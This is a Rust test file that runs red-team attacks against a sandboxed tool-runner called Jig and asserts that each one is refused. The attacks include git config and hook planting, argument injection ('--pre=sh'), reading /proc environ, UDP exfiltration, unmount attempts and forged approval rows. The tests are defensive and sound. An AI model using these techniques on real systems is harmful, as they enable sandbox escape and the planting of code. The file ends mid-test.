//! The red team's attacks, run against the built binary: each class of issue #8's security list
//! with the attack itself, on a project whose policy lets the tools run (so only the
//! confinement stands in the way).

use std::path::Path;
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::{Value, json};

use crate::{jig, jig_env, stderr, stdout_json};

/// A project whose policy allows the file tools and `shell_exec` of a few programs outright.
fn permissive_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tmp");
    let root = dir.path();
    std::fs::create_dir_all(root.join("tools/scripts")).expect("mkdir");
    std::fs::write(
        root.join("jig.yaml"),
        r#"name: target
policy:
  shell_allow: ["^ls(\\s|$)", "^cat(\\s|$)", "^git(\\s|$)", "^tar(\\s|$)", "^rm(\\s|$)", "^python3(\\s|$)", "^rg(\\s|$)", "^touch(\\s|$)"]
  rules:
    - { tools: [shell_exec, file_write, fs_delete, fs_move, fs_copy, file_patch, probe.peek, probe.search], action: allow }
"#,
    )
    .expect("write");
    std::fs::write(
        root.join("tools/peek.tool.yaml"),
        "id: probe.peek\nversion: 1.0.0\ndescription: Reads its parent's environment and signals a process.\n\
         sideEffects: [read]\nrisk: low\ndeterministic: false\ntimeoutMs: 10000\n\
         limits: {maxInputBytes: 4096, maxOutputBytes: 65536}\n\
         inputSchema: {type: object, properties: {victim: {type: integer}}, required: [victim]}\n\
         outputSchema: {type: object}\n\
         execution: {kind: python, script: scripts/peek.py}\n",
    )
    .expect("write");
    std::fs::write(
        root.join("tools/scripts/peek.py"),
        r#"import json, os, signal, sys
args = json.load(sys.stdin)
out = {"ppid": os.getppid()}
try:
    with open(f"/proc/{os.getppid()}/environ", "rb") as f:
        out["environ"] = f.read().decode("latin-1")
except OSError as e:
    out["environ_error"] = str(e)
try:
    os.kill(args["victim"], signal.SIGKILL)
    out["killed"] = True
except OSError as e:
    out["kill_error"] = str(e)
out["visible_pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
json.dump(out, sys.stdout)
"#,
    )
    .expect("write");
    std::fs::write(
        root.join("tools/search.tool.yaml"),
        "id: probe.search\nversion: 1.0.0\ndescription: Searches the workspace with rg.\n\
         sideEffects: [read]\nrisk: low\ndeterministic: false\ntimeoutMs: 10000\n\
         limits: {maxInputBytes: 4096, maxOutputBytes: 65536}\n\
         inputSchema: {type: object, properties: {pattern: {type: string}}, required: [pattern]}\n\
         outputSchema: {type: object}\n\
         templating: {engine: jinja2}\n\
         execution: {kind: cli, cmd: [rg, '{{ pattern }}', '.']}\n",
    )
    .expect("write");
    std::fs::write(root.join("notes.txt"), "hello\n").expect("write");
    dir
}

fn call(root: &Path, tool: &str, args: &Value) -> Value {
    let output = jig(root, &["call", tool, "--args", &args.to_string()]);
    assert!(matches!(output.status.code(), Some(0 | 1)), "{}", stderr(&output));
    stdout_json(&output)
}

fn shell(root: &Path, cmd: &str) -> Value {
    call(root, "shell_exec", &json!({ "cmd": cmd }))
}

fn refused_by(response: &Value, rule: &str) {
    assert_eq!(response["ok"], false, "{response:#}");
    assert_eq!(response["errors"][0]["details"]["rule"], rule, "{response:#}");
}

/// Class 1: `shell_exec` is confined in the filesystem too: reads and writes outside the
/// workspace fail whatever options the program takes.
#[test]
fn shell_exec_cannot_read_or_write_outside_the_workspace() {
    let dir = permissive_project();
    let root = dir.path();
    let outside = tempfile::tempdir().expect("tmp");
    std::fs::write(outside.path().join("secret.txt"), "outside secret").expect("write");
    let secret = outside.path().join("secret.txt").display().to_string();
    let read = shell(root, &format!("cat {secret}"));
    assert_ne!(read["data"]["code"], 0, "{read:#}");
    assert!(!read.to_string().contains("outside secret"));
    let listing = shell(root, "ls /root /home");
    assert!(!listing["data"]["stdout"].as_str().unwrap_or_default().contains(".cargo"));
    // Writing outside: tar's own output option, and git's.
    let planted = outside.path().join("planted.tar").display().to_string();
    let tar = shell(root, &format!("tar -cf {planted} notes.txt"));
    assert_ne!(tar["data"]["code"], 0, "{tar:#}");
    assert!(!outside.path().join("planted.tar").exists());
    // The workspace itself is writable.
    assert_eq!(shell(root, "touch made-here.txt")["data"]["code"], 0);
    assert!(root.join("made-here.txt").exists());
}

/// Class 2: code-loading environment variables are refused (an allow-list), and a
/// repository whose `.git/config` runs programs is refused before git starts.
#[test]
fn code_loading_configuration_does_not_run() {
    let dir = permissive_project();
    let root = dir.path();
    for name in ["GIT_ALLOW_PROTOCOL", "HOME", "XDG_CONFIG_HOME", "RIPGREP_CONFIG_PATH"] {
        let response =
            call(root, "shell_exec", &json!({ "cmd": "git status", "env": { name: "/tmp/evil" } }));
        assert_eq!(response["ok"], false, "{name}: {response:#}");
    }
    assert!(
        Command::new("git").args(["init", "-q"]).current_dir(root).status().expect("git").success()
    );
    let config = root.join(".git/config");
    let mut text = std::fs::read_to_string(&config).expect("config");
    text.push_str("[alias]\n\tst = !touch pwned\n[diff]\n\texternal = touch pwned2\n");
    std::fs::write(&config, text).expect("write");
    let response = shell(root, "git st");
    refused_by(&response, "sec.git.config");
    assert!(!root.join("pwned").exists() && !root.join("pwned2").exists());
}

/// Class 3: Jig's own state and the manifests are out of every tool's reach: the file tools,
/// a symlink detour, and a command inside the sandbox.
#[test]
fn tools_cannot_touch_the_store_or_the_manifests() {
    let dir = permissive_project();
    let root = dir.path();
    assert_eq!(shell(root, "ls")["ok"], true, "the store exists now");
    let db = root.join(".jig/audit.db");
    let before = std::fs::metadata(&db).expect("store").len();
    std::os::unix::fs::symlink(".jig", root.join("j")).expect("symlink");
    for (tool, args) in [
        ("fs_delete", json!({ "path": ".jig/audit.db" })),
        ("fs_delete", json!({ "path": "j/audit.db" })),
        ("fs_delete", json!({ "path": "./tools/../.jig", "recursive": true })),
        ("fs_move", json!({ "src": ".jig", "dst": "old" })),
        ("file_write", json!({ "path": ".jig/audit.db", "content": "" })),
        ("file_write", json!({ "path": "j/audit.db", "content": "" })),
        ("file_write", json!({ "path": "jig.yaml", "content": "name: target\n" })),
        ("fs_move", json!({ "src": "notes.txt", "dst": "jig.yaml", "overwrite": true })),
        ("file_read", json!({ "path": ".jig/audit.db" })),
        ("fs_copy", json!({ "src": "j", "dst": "copy" })),
    ] {
        let response = call(root, tool, &args);
        refused_by(&response, "sec.paths.protected");
    }
    // Inside the sandbox the store is an empty, read-only directory; the manifest is read-only.
    let rm = shell(root, "rm -rf .jig/audit.db jig.yaml");
    assert_ne!(rm["data"]["code"], 0, "{rm:#}");
    // Nor can a process take the protecting mounts away (no capabilities, even under root).
    let manifest = root.join("jig.yaml").display().to_string();
    let unmount = shell(
        root,
        &format!(
            "python3 -c \"import ctypes, sys; libc = ctypes.CDLL(None); sys.exit(0 if libc.umount2(b'{manifest}', 2) == 0 and libc.umount2(b'{}', 2) == 0 else 3)\"",
            root.join(".jig").display()
        ),
    );
    assert_eq!(unmount["data"]["code"], 3, "a protecting mount was removed: {unmount:#}");
    assert!(std::fs::metadata(&db).expect("store").len() >= before);
    assert!(root.join("jig.yaml").exists());
    let verify = jig(root, &["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(0), "{}", String::from_utf8_lossy(&verify.stdout));
}

/// Class 2, deferred: a process in the sandbox cannot plant what the person's own git, run
/// later outside any sandbox, would execute: a hook in a repository that had no `hooks/`, a
/// submodule's config or hook, a submodule's pointer to its repository; nor can the file tools
/// touch a `.git` at any depth.
#[test]
fn a_sandboxed_process_cannot_plant_code_for_git_outside() {
    let dir = permissive_project();
    let root = dir.path();
    let git = |dir: &Path, args: &[&str]| {
        let status = Command::new("git")
            .args(["-c", "user.name=t", "-c", "user.email=t@t", "-c", "protocol.file.allow=always"])
            .args(args)
            .current_dir(dir)
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .status()
            .expect("git");
        assert!(status.success(), "git {args:?}");
    };
    let other = tempfile::tempdir().expect("tmp");
    git(other.path(), &["init", "-q"]);
    git(other.path(), &["commit", "-q", "--allow-empty", "-m", "lib"]);
    git(root, &["init", "-q"]);
    git(root, &["submodule", "-q", "add", &other.path().display().to_string(), "sub"]);
    git(root, &["commit", "-q", "-m", "with a submodule"]);
    // A repository without hooks (libgit2 and `--template=` make such): nothing to bind yet.
    std::fs::remove_dir_all(root.join(".git/hooks")).expect("rm hooks");
    std::fs::write(
        root.join("plant.py"),
        r##"import json, os, shutil
results = {}
def attempt(name, action):
    try:
        action()
        results[name] = "written"
    except OSError as e:
        results[name] = e.strerror
def hook(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as f:
        f.write("#!/bin/sh\ntouch PWNED\n")
    os.chmod(path, 0o755)
attempt("hook", lambda: hook(".git/hooks/pre-commit"))
attempt("module config", lambda: open(".git/modules/sub/config", "a").write("[core]\n\tfsmonitor = touch PWNED\n"))
attempt("module hook", lambda: hook(".git/modules/sub/hooks/pre-commit"))
attempt("pointer", lambda: open("sub/.git", "w").write("gitdir: ../evil\n"))
# Around the read-only binds: move the directory that holds them aside, make a new one.
def swap(git_dir):
    os.rename(git_dir, git_dir + ".old")
    shutil.copytree(git_dir + ".old", git_dir, ignore=shutil.ignore_patterns("hooks"))
    hook(git_dir + "/hooks/pre-commit")
attempt("swapped repository", lambda: swap(".git"))
attempt("swapped submodule repository", lambda: swap(".git/modules/sub"))
attempt("swapped submodule", lambda: swap("sub"))
print(json.dumps(results))
"##,
    )
    .expect("write");
    let planted = shell(root, "python3 plant.py");
    let results: Value = serde_json::from_str(
        planted["data"]["stdout"].as_str().unwrap_or_else(|| panic!("{planted:#}")),
    )
    .expect("json");
    for (name, result) in results.as_object().expect("object") {
        assert_ne!(result, "written", "{name} was planted: {results:#}");
    }
    assert!(root.join(".git/hooks").is_dir(), "the missing hooks directory was made to be kept");
    // The person's own git, outside: status recurses into the submodule, a commit runs hooks.
    git(root, &["status"]);
    git(root, &["commit", "-q", "--allow-empty", "-m", "after the tool"]);
    git(&root.join("sub"), &["commit", "-q", "--allow-empty", "-m", "in the submodule"]);
    assert!(!root.join("PWNED").exists() && !root.join("sub/PWNED").exists());
    // A nested repository (vendored with its history) is as much code-loading as the root's.
    std::fs::create_dir_all(root.join("vendor/lib/.git")).expect("mkdir");
    std::fs::write(root.join("vendor/lib/.git/config"), "[core]\n").expect("write");
    for (tool, args) in [
        ("file_write", json!({ "path": "sub/.git", "content": "gitdir: ../evil\n" })),
        ("file_write", json!({ "path": "vendor/lib/.git/config", "content": "[core]\n" })),
        ("fs_copy", json!({ "src": "notes.txt", "dst": "sub/.git", "overwrite": true })),
        ("fs_delete", json!({ "path": "sub/.git" })),
    ] {
        refused_by(&call(root, tool, &args), "sec.paths.protected");
    }
}

/// Class 5: without a network grant nothing leaves, UDP included: a datagram to a listener on
/// the host's loopback never arrives, a public address is unreachable; `allow_network` needs
/// the policy's explicit grant.
#[test]
fn no_network_means_no_udp_either() {
    let dir = permissive_project();
    let root = dir.path();
    let listener = std::net::UdpSocket::bind("127.0.0.1:0").expect("bind");
    listener.set_read_timeout(Some(Duration::from_millis(500))).expect("timeout");
    let port = listener.local_addr().expect("addr").port();
    let send = |host: &str| {
        shell(
            root,
            &format!(
                "python3 -c \"import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'leak', ('{host}', {port}))\""
            ),
        )
    };
    let _ = send("127.0.0.1");
    let mut buffer = [0u8; 16];
    assert!(listener.recv_from(&mut buffer).is_err(), "a datagram reached the host");
    let public = send("192.0.2.1");
    assert_ne!(public["data"]["code"], 0, "{public:#}");
    assert!(
        public["data"]["stderr"].as_str().expect("stderr").contains("unreachable"),
        "{public:#}"
    );
    let granted = call(root, "shell_exec", &json!({ "cmd": "ls", "allow_network": true }));
    refused_by(&granted, "sandbox.network");
}

/// Class 6: a FIFO in the workspace is refused at once by the file tools, never hangs them.
#[test]
fn a_fifo_does_not_hang_the_file_tools() {
    let dir = permissive_project();
    let root = dir.path();
    assert!(Command::new("mkfifo").arg(root.join("pipe")).status().expect("mkfifo").success());
    let started = Instant::now();
    for (tool, args) in [
        ("file_read", json!({ "path": "pipe" })),
        ("fs_copy", json!({ "src": "pipe", "dst": "copy" })),
        (
            "file_patch",
            json!({ "path": "pipe", "unified_diff": "--- a/pipe\n+++ b/pipe\n@@ -1 +1 @@\n-a\n+b\n" }),
        ),
    ] {
        let response = call(root, tool, &args);
        assert_eq!(response["ok"], false, "{tool}: {response:#}");
        assert!(response.to_string().contains("not a regular file"), "{tool}: {response:#}");
    }
    assert!(started.elapsed() < Duration::from_secs(20), "took {:?}", started.elapsed());
}

/// Class 8: a templated value starting with `-` never becomes an option of the program.
#[test]
fn a_templated_value_cannot_become_an_option() {
    let dir = permissive_project();
    let root = dir.path();
    let response = call(root, "probe.search", &json!({ "pattern": "--pre=sh" }));
    assert_eq!(response["ok"], false, "{response:#}");
    assert_eq!(response["errors"][0]["details"]["rule"], "sec.argv.positional", "{response:#}");
    let fine = call(root, "probe.search", &json!({ "pattern": "hello" }));
    assert_eq!(fine["ok"], true, "{fine:#}");
}

/// Class 9: a confined tool sees only its own processes: not Jig's environment (with its
/// secrets), and it cannot signal a process outside.
#[test]
fn a_tool_cannot_read_jigs_environment_or_kill_other_processes() {
    let dir = permissive_project();
    let root = dir.path();
    let mut victim =
        Command::new("sleep").arg("29.7").stdout(Stdio::null()).spawn().expect("sleep");
    let output = jig_env(
        root,
        &["call", "probe.peek", "--args", &json!({ "victim": victim.id() }).to_string()],
        &[("JIG_TEST_SECRET", "hunter2-do-not-leak")],
    );
    let response = stdout_json(&output);
    assert_eq!(response["ok"], true, "{response:#}");
    let data = &response["data"];
    assert!(!response.to_string().contains("hunter2-do-not-leak"), "{data:#}");
    assert!(data.get("killed").is_none(), "{data:#}");
    assert!(victim.try_wait().expect("wait").is_none(), "the victim was killed");
    let visible = data["visible_pids"].as_array().expect("pids").len();
    assert!(visible <= 4, "the tool sees other processes: {data:#}");
    let _ = victim.kill();
    let _ = victim.wait();
}

/// Defect 4: credentials in a URL are refused.
#[test]
fn urls_with_credentials_are_refused() {
    let dir = permissive_project();
    std::fs::write(
        dir.path().join("jig.yaml"),
        "name: target\npolicy:\n  network: { allowed_domains: [example.com] }\n",
    )
    .expect("write");
    let response = call(dir.path(), "curl", &json!({ "url": "https://user:pw@example.com/" }));
    assert_eq!(response["ok"], false, "{response:#}");
    assert!(response.to_string().contains("credentials"), "{response:#}");
}

/// Class 4: the reviewer sees exactly what will run: a secret-looking span is not masked in a
/// command, and the tokenised argv is shown; the audit records the same.
#[test]
fn the_reviewer_sees_the_command_that_will_run() {
    let dir = permissive_project();
    let root = dir.path();
    std::fs::write(
        root.join("jig.yaml"),
        "name: target\npolicy:\n  shell_allow: [\"^git(\\\\s|$)\"]\n  rules:\n    - { tools: [shell_exec], action: require-approval }\n",
    )
    .expect("write");
    let cmd = "git log --grep=password=hunter2 --format=%H";
    let asked = call(root, "shell_exec", &json!({ "cmd": cmd }));
    assert_eq!(asked["errors"][0]["code"], "E_POLICY", "{asked:#}");
    let listed = jig(root, &["approvals", "list", "--json"]);
    let text = String::from_utf8_lossy(&listed.stdout);
    assert!(text.contains("--grep=password=hunter2 --format=%H"), "{text}");
    assert!(text.contains("\"argv\""), "the tokenised argv is shown: {text}");
    // The record, its exports and everyone else's screens keep it redacted (issue #26): the
    // reviewer above saw it in clear.
    let audit = jig(root, &["audit", "export"]);
    let audit = String::from_utf8_lossy(&audit.stdout);
    assert!(!audit.contains("hunter2"), "{audit}");
    assert!(audit.contains("--grep=password=[REDACTED]"), "{audit}");
}

/// A project where writes need a reviewer other than the one who asked.
pub(crate) fn reviewed_project() -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tmp");
    std::fs::write(
        dir.path().join("jig.yaml"),
        "name: reviewed\npolicy:\n  rules:\n    - { tools: [file_write], action: require-approval }\n  approvals: { self_approval: false, allow_as: true }\n",
    )
    .expect("write");
    dir
}

const WRITE: &str = r#"{"path": "out.txt", "content": "approved content\n"}"#;

pub(crate) fn ask(root: &Path, who: &str) -> String {
    let asked = stdout_json(&jig(root, &["--as", who, "call", "file_write", "--args", WRITE]));
    asked["errors"][0]["details"]["approval_id"].as_str().expect("approval id").to_owned()
}

fn raw_sql(root: &Path, statements: &[&str]) {
    let db = root.join(".jig/audit.db").display().to_string();
    let runtime = tokio::runtime::Runtime::new().expect("runtime");
    runtime.block_on(async {
        let store = jig_audit::Store::open(&db).await.expect("open");
        for statement in statements {
            store.execute_raw(statement).await.expect("raw sql");
        }
        store.close().await;
    });
}

/// Class 10: principals compare canonically, and an approval is bound to who asked. Issue #27:
/// the approver is handed no token for someone else's call; the caller's next identical call
/// runs it, once.
#[test]
fn identity_is_compared_canonically_and_tokens_are_bound_to_who_asked() {
    let dir = reviewed_project();
    let root = dir.path();
    let approval = ask(root, "alice");
    let self_approved = jig(root, &["--as", "Alice", "approvals", "approve", &approval]);
    assert_ne!(self_approved.status.code(), Some(0), "Alice approved alice's request");
    let approved = jig(root, &["--as", "bob", "approvals", "approve", &approval]);
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
    assert_eq!(String::from_utf8_lossy(&approved.stdout), "", "no token for alice's call");
    // Someone else asking the same is not answered from alice's approval.
    let other =
        stdout_json(&jig(root, &["--as", "mallory", "call", "file_write", "--args", WRITE]));
    assert_eq!(other["ok"], false, "{other:#}");
    assert!(other["errors"][0]["details"]["approval_id"].is_string(), "{other:#}");
    assert!(!root.join("out.txt").exists());
    // alice's next identical call runs it, once.
    let ran = stdout_json(&jig(root, &["--as", "alice", "call", "file_write", "--args", WRITE]));
    assert_eq!(ran["ok"], true, "{ran:#}");
    assert_eq!(ran["replayed"], false, "{ran:#}");
    let again = stdout_json(&jig(root, &["--as", "alice", "call", "file_write", "--args", WRITE]));
    assert_eq!(again["replayed"], true, "{again:#}");

    // Where one may approve one's own call, the token is one's own, and nobody else's.
    std::fs::write(
        root.join("jig.yaml"),
        "name: target\npolicy:\n  approvals: { allow_as: true, self_approval: true }\n",
    )
    .expect("write");
    let args = r#"{"path": "mine.txt", "content": "x"}"#;
    let asked = stdout_json(&jig(root, &["--as", "alice", "call", "file_write", "--args", args]));
    let id = asked["errors"][0]["details"]["approval_id"].as_str().expect("asked").to_owned();
    let own = jig(root, &["--as", "alice", "approvals", "approve", &id]);
    let token = String::from_utf8_lossy(&own.stdout).trim().to_owned();
    assert_eq!(token.len(), 64, "{}", stderr(&own));
    let stolen = stdout_json(&jig(
        root,
        &["--as", "mallory", "call", "file_write", "--args", args, "--approve", &token],
    ));
    assert_eq!(stolen["ok"], false, "{stolen:#}");
    assert!(!root.join("mine.txt").exists());
    let ran = stdout_json(&jig(
        root,
        &["--as", "alice", "call", "file_write", "--args", args, "--approve", &token],
    ));
    assert_eq!(ran["ok"], true, "{ran:#}");
}

/// Class 4: a person approves the tool as it is when they approve. The reviewer sees the
/// command line the call will start and where the tool and its code are; a token does not fit
/// once the tool's definition or its script changed, and fits again when they are put back.
#[test]
fn an_approval_does_not_outlive_a_change_to_the_tool_or_its_script() {
    let dir = tempfile::tempdir().expect("tmp");
    let root = dir.path();
    std::fs::create_dir_all(root.join("tools")).expect("mkdir");
    std::fs::write(
        root.join("jig.yaml"),
        "name: reviewed\npolicy:\n  shell_allow: ['^echo(\\s|$)']\n  rules:\n    - { effects: [exec], action: require-approval }\n  approvals: { self_approval: false, allow_as: true }\n",
    )
    .expect("write");
    let definition = |cmd: &str| {
        format!(
            "id: acme.greet\nversion: 1.0.0\ndescription: Greets.\nsideEffects: [exec]\nrisk: low\n\
             deterministic: false\ntimeoutMs: 10000\nlimits: {{maxInputBytes: 4096, maxOutputBytes: 65536}}\n\
             inputSchema: {{type: object, properties: {{name: {{type: string}}}}, required: [name]}}\n\
             outputSchema: {{type: object}}\ntemplating: {{engine: jinja2}}\n\
             execution: {{kind: cli, cmd: {cmd}}}\n"
        )
    };
    let approved_cmd = "[./greet.sh, '{{ name }}']";
    std::fs::write(root.join("tools/greet.tool.yaml"), definition(approved_cmd)).expect("write");
    // A relative program starts from the workspace root.
    let script = root.join("greet.sh");
    std::fs::write(&script, "#!/bin/sh\necho \"hello $1\"\n").expect("write");
    std::fs::set_permissions(&script, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let args = r#"{"name": "ada"}"#;
    let asked = stdout_json(&jig(root, &["--as", "alice", "call", "acme.greet", "--args", args]));
    let approval = asked["errors"][0]["details"]["approval_id"].as_str().expect("asked");
    let listed = stdout_json(&jig(root, &["approvals", "list", "--json"]));
    let request = &listed[0]["request"];
    assert_eq!(request["argv"], json!(["./greet.sh", "ada"]), "{listed:#}");
    assert_eq!(request["definition"]["file"], "tools/greet.tool.yaml", "{listed:#}");
    assert_eq!(request["code_files"][0]["path"], "greet.sh", "{listed:#}");
    let approved = jig(root, &["--as", "bob", "approvals", "approve", approval]);
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));
    // alice calls again: the approval fits only the tool and code as approved; a changed one
    // runs nothing and asks anew.
    let run = |root: &Path| {
        stdout_json(&jig(root, &["--as", "alice", "call", "acme.greet", "--args", args]))
    };
    let asks_anew = |response: &serde_json::Value| {
        assert_eq!(response["ok"], false, "{response:#}");
        let asked = response["errors"][0]["details"]["approval_id"].as_str();
        assert!(asked.is_some_and(|id| id != approval), "{response:#}");
    };
    // The definition changed after the approval: another command line.
    std::fs::write(root.join("tools/greet.tool.yaml"), definition("[echo, pwned]")).expect("write");
    asks_anew(&run(root));
    std::fs::write(root.join("tools/greet.tool.yaml"), definition(approved_cmd)).expect("write");
    // The script changed after the approval.
    std::fs::write(&script, "#!/bin/sh\necho pwned\n").expect("write");
    asks_anew(&run(root));
    std::fs::write(&script, "#!/bin/sh\necho \"hello $1\"\n").expect("write");
    // As approved: it runs, once.
    let ran = run(root);
    assert_eq!(ran["ok"], true, "{ran:#}");
    assert_eq!(ran["data"]["stdout"], "hello ada\n", "{ran:#}");
}

/// Class 11: a forged approvals row does not make a call approved, and `verify` finds it.
#[test]
fn a_forged_approval_row_is_refused_and_found_by_verify() {
    let dir = reviewed_project();
    let root = dir.path();
    let approval = ask(root, "alice");
    let forged_hash = jig_model::Sha256Hash::of_bytes(b"forged-token").to_hex();
    raw_sql(
        root,
        &[&format!(
            "UPDATE approvals SET state = 'approved', token_hash = '{forged_hash}', expires_us = 9999999999999999 WHERE id = '{approval}'"
        )],
    );
    let used = stdout_json(&jig(
        root,
        &["--as", "alice", "call", "file_write", "--args", WRITE, "--approve", "forged-token"],
    ));
    assert_eq!(used["ok"], false, "{used:#}");
    assert!(used.to_string().contains("not in the audit chain"), "{used:#}");
    assert!(!root.join("out.txt").exists());
    let verify = jig(root, &["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&verify.stdout).contains(&approval), "names the approval");
}

/// Class 11: an edited recorded response is not served as a replay, and `verify` finds it.
#[test]
fn an_edited_recorded_response_is_not_replayed() {
    let dir = permissive_project();
    let root = dir.path();
    let args = json!({ "path": "a.txt", "content": "real\n" });
    let first = call(root, "file_write", &args);
    assert_eq!(first["ok"], true, "{first:#}");
    raw_sql(
        root,
        &["UPDATE idempotency SET response = replace(response, '\"bytes\":5', '\"bytes\":666')"],
    );
    let replayed = call(root, "file_write", &args);
    // The edited field, not a bare "666" (a random request id can hold that).
    assert!(!replayed.to_string().contains("\"bytes\":666"), "{replayed:#}");
    assert_eq!(replayed["ok"], false, "{replayed:#}");
    let verify = jig(root, &["audit", "verify"]);
    assert_eq!(verify.status.code(), Some(1), "{}", String::from_utf8_lossy(&verify.stdout));
}

/// Class 10: without the policy's `allow_as`, `--as` cannot name someone else: the principal is
/// the OS user, whatever `$USER` says.
#[test]
fn the_principal_is_the_os_user_unless_the_policy_allows_naming_one() {
    let dir = permissive_project();
    let root = dir.path();
    let named = jig(root, &["--as", "alice", "call", "file_write", "--args", WRITE]);
    assert_eq!(named.status.code(), Some(2), "{}", stderr(&named));
    assert!(stderr(&named).contains("allow_as"), "{}", stderr(&named));
    let spoofed = jig_env(root, &["call", "file_write", "--args", WRITE], &[("USER", "alice")]);
    let response = stdout_json(&spoofed);
    assert_eq!(response["ok"], true, "{response:#}");
    let packets = String::from_utf8_lossy(&jig(root, &["audit", "export"]).stdout).into_owned();
    assert!(!packets.contains("\"principal\":\"alice\""), "$USER was trusted: {packets}");
}

/// Class 7: `$ref` fan-out (each of ten properties referencing the next schema, twelve deep)
/// validates instead of exhausting memory.
#[test]
fn ref_fan_out_does_not_exhaust_jig_validate() {
    let dir = tempfile::tempdir().expect("tmp");
    let root = dir.path();
    std::fs::create_dir_all(root.join("tools")).expect("mkdir");
    std::fs::create_dir_all(root.join("schemas")).expect("mkdir");
    std::fs::write(root.join("jig.yaml"), "name: fan\n").expect("write");
    std::fs::write(
        root.join("tools/t.tool.yaml"),
        "id: fan.t\nversion: 1.0.0\ndescription: Fan-out.\nsideEffects: [none]\nrisk: low\n\
         deterministic: true\ntimeoutMs: 1000\nlimits: {maxInputBytes: 1024, maxOutputBytes: 1024}\n\
         inputSchema: {$ref: ../schemas/s0.json}\noutputSchema: {type: object}\n\
         execution: {kind: cli, cmd: ['true']}\n",
    )
    .expect("write");
    for level in 0..12 {
        let schema = if level == 11 {
            json!({ "type": "string" })
        } else {
            let properties: serde_json::Map<String, Value> = (0..10)
                .map(|p| (format!("p{p}"), json!({ "$ref": format!("s{}.json", level + 1) })))
                .collect();
            json!({ "type": "object", "properties": properties })
        };
        std::fs::write(root.join(format!("schemas/s{level}.json")), schema.to_string())
            .expect("write");
    }
    let validate = jig(root, &["validate"]);
    assert_eq!(validate.status.code(), Some(0), "{}", stderr(&validate));
}

/// A store handed over with the project (committed to a repository, in an archive) holds an
/// approval "given" for exactly the request its author foresaw, under a key of their choosing.
/// The key of an SQLite store is kept outside it, in the person's state directory: a store that
/// arrives from elsewhere is opened with a new key, and that approval fits nothing.
#[test]
fn an_approval_that_came_with_the_store_approves_nothing() {
    const WRITE: &str = r#"{"path": "notes/planted.txt", "content": "ran without a person\n", "create_dirs": true}"#;
    let author = tempfile::tempdir().expect("tmp");
    let victim = tempfile::tempdir().expect("tmp");
    let made = crate::calls::example_copy();
    let as_in = |state: &Path, root: &Path, args: &[&str]| {
        jig_env(root, args, &[("XDG_STATE_HOME", state.to_str().expect("utf-8"))])
    };
    // The author asks, approves it themselves as another name, and ships the store.
    let asked = as_in(
        author.path(),
        made.path(),
        &["--as", "alice", "call", "file_write", "--args", WRITE],
    );
    let approval = stdout_json(&asked)["errors"][0]["details"]["approval_id"]
        .as_str()
        .expect("asked for approval")
        .to_owned();
    let approved =
        as_in(author.path(), made.path(), &["--as", "bob", "approvals", "approve", &approval]);
    assert_eq!(approved.status.code(), Some(0), "{}", stderr(&approved));

    // The same store at the same place, someone else's state: the approval does not fit.
    let refused = as_in(
        victim.path(),
        made.path(),
        &["--as", "alice", "call", "file_write", "--args", WRITE],
    );
    assert_eq!(refused.status.code(), Some(1), "{}", stderr(&refused));
    let response = stdout_json(&refused);
    assert_eq!(response["errors"][0]["code"], "E_POLICY");
    assert_ne!(response["errors"][0]["details"]["approval_id"], approval.as_str(), "asked anew");
    assert!(!made.path().join("notes/planted.txt").exists());

    // Copied elsewhere (a clone), even by its author: the same.
    let clone = tempfile::tempdir().expect("tmp");
    copy_tree(made.path(), clone.path());
    let moved = as_in(
        author.path(),
        clone.path(),
        &["--as", "alice", "call", "file_write", "--args", WRITE],
    );
    assert_eq!(moved.status.code(), Some(1), "{}", stderr(&moved));
    assert!(!clone.path().join("notes/planted.txt").exists());

    // Where it was given, the approval holds (the attack above was a real one).
    let ran = as_in(
        author.path(),
        made.path(),
        &["--as", "alice", "call", "file_write", "--args", WRITE],
    );
    assert_eq!(ran.status.code(), Some(0), "{}", stderr(&ran));
    assert!(made.path().join("notes/planted.txt").exists());
}

/// The same store, handed over with a *result* in it: a deterministic call its author
/// foresaw, answered "planted" where the author ran it. Replays are matched by tool,
/// definition, arguments and person, none of them secret; the store vouches for a result it
/// recorded under its key, which a store from elsewhere was never opened with, and a result
/// it did not vouch for is not served: the call runs.
#[test]
fn a_result_that_came_with_the_store_is_not_replayed() {
    let author = tempfile::tempdir().expect("tmp");
    let victim = tempfile::tempdir().expect("tmp");
    let made = tempfile::tempdir().expect("tmp");
    let root = made.path();
    deterministic_python_tool(
        root,
        "answer",
        "print(json.dumps({'answer': open('answer.txt').read()}))",
    );
    let call = |state: &Path, root: &Path| {
        let out = jig_env(
            root,
            &["call", "probe.answer", "--args", "{}"],
            &[("XDG_STATE_HOME", state.to_str().expect("utf-8"))],
        );
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let response = stdout_json(&out);
        (response["data"]["answer"].as_str().unwrap_or_default().to_owned(), response)
    };
    // The author's run answers "planted"; the file then says otherwise, and the store ships.
    std::fs::write(root.join("answer.txt"), "planted").expect("write");
    assert_eq!(call(author.path(), root).0, "planted");
    std::fs::write(root.join("answer.txt"), "real").expect("write");

    // Where it was recorded, it replays (the attack below is a real one).
    let (answer, response) = call(author.path(), root);
    assert_eq!(answer, "planted", "{response}");
    assert_eq!(response["replayed"], true);

    // Someone else opening the store, and the author's own clone elsewhere: the tool runs.
    let (answer, response) = call(victim.path(), root);
    assert_eq!(answer, "real", "{response}");
    assert_ne!(response["replayed"], true);
    let clone = tempfile::tempdir().expect("tmp");
    copy_tree(root, clone.path());
    assert_eq!(call(author.path(), clone.path()).0, "real");
    // What it ran is vouched for under its own key, and replays from now on.
    let (answer, response) = call(victim.path(), root);
    assert_eq!((answer.as_str(), &response["replayed"]), ("real", &json!(true)), "{response}");
}

/// A side effect's idempotency key that came with the store, "done" with an answer: the
/// call is neither answered from it nor run again (whether the effect happened is unknown).
#[test]
fn an_idempotency_key_that_came_with_the_store_is_not_taken_for_done() {
